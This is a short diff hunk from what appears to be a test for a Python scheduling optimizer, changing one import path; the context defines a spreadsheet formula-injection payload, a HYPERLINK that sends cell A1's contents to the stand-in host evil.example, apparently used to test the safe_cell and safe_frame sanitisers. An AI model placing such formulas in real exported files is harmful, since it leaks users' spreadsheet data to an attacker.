@@ -13,7 +13,7 @@ from optimizer import api
 from optimizer.io.schedule_json import read_json
 from optimizer.io.write import safe_cell, safe_frame, write_outputs
 from optimizer.report.kpis import with_kpis
-from optimizer.solve import solve
+from optimizer.solver import solve
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
